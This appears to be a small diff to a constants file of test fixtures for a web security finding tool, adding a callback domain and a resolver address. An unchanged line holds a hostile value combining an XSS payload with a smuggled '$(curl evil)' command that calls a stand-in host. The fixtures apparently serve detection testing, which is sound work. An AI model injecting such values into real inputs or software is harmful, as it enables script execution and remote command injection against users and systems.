@@ -46,3 +46,6 @@ export const GROUP = 'web';
 export const HOSTILE = '<img src="x" onerror=alert(1)> $(curl evil)';
 /** The far end that the finding names. */
 export const REMOTE = '198.51.100.23';
+/** A name that the finding tells, and where it was asked for. */
+export const ASKED = 'payload.t.example.net';
+export const RESOLVER = '169.254.169.253';
